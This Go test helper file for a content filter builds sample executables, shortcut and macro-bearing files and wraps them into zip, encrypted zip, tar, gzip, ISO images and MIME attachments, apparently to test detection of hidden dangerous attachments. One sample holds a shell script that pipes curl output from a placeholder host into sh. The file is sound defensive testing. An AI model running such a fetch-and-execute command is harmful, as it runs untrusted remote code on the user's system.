package contentfilter

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kdomanski/iso9660"
)

// Real files the tests put into archives and messages.
var (
	peBytes    = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 240)...)
	pdfBytes   = []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
	scriptSh   = []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n")
	machoBytes = append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"), make([]byte, 64)...)
	// A Windows shortcut: the 76-byte header with its CLSID.
	lnkBytes = append([]byte("\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 56)...)
	// An OLE compound file whose directory names a VBA project stream.
	vbaBytes = append(append(append([]byte{}, oleMagic...), make([]byte, 504)...), utf16le("_VBA_PROJECT")...)
)

// elfBytes is the test binary itself: a real ELF file.
func elfBytes(t testing.TB) []byte {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(exe)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	b := make([]byte, 4096)
	if _, err := f.Read(b); err != nil {
		t.Fatal(err)
	}
	return b
}

type file struct {
	name string
	data []byte
}

// zipOf builds a zip archive of files, deflated.
func zipOf(t testing.TB, files ...file) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		w, err := zw.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// encryptedZip builds a zip whose members carry the encryption flag, as
// ZipCrypto archives do: names in the clear, content not readable.
func encryptedZip(t testing.TB, names ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		body := []byte("\x8a\x11\x02\x7f encrypted bytes of " + n)
		w, err := zw.CreateRaw(&zip.FileHeader{Name: n, Method: zip.Store, Flags: 0x1,
			CRC32: crc32.ChecksumIEEE(body), CompressedSize64: uint64(len(body)), UncompressedSize64: uint64(len(body)) - 12})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func tarOf(t testing.TB, files ...file) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, f := range files {
		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gzipOf(t testing.TB, name string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Name = name
	if _, err := zw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// isoOf builds an ISO 9660 image with the kdomanski/iso9660 writer.
func isoOf(t testing.TB, files ...file) []byte {
	t.Helper()
	w, err := iso9660.NewWriter()
	if err != nil {
		t.Fatal(err)
	}
	defer w.Cleanup()
	for _, f := range files {
		if err := w.AddFile(bytes.NewReader(f.data), f.name); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(t.TempDir(), "image.iso")
	fh, err := os.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteTo(fh, "TEST"); err != nil {
		t.Fatal(err)
	}
	if err := fh.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// attachment is a base64 MIME part with the given header lines.
func attachment(header string, data []byte) string {
	enc := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc)
	return header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b.String() + "\r\n"
}

// attached is an application/octet-stream attachment named name.
func attached(name string, data []byte) string {
	return attachment("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\""+name+"\"", data)
}
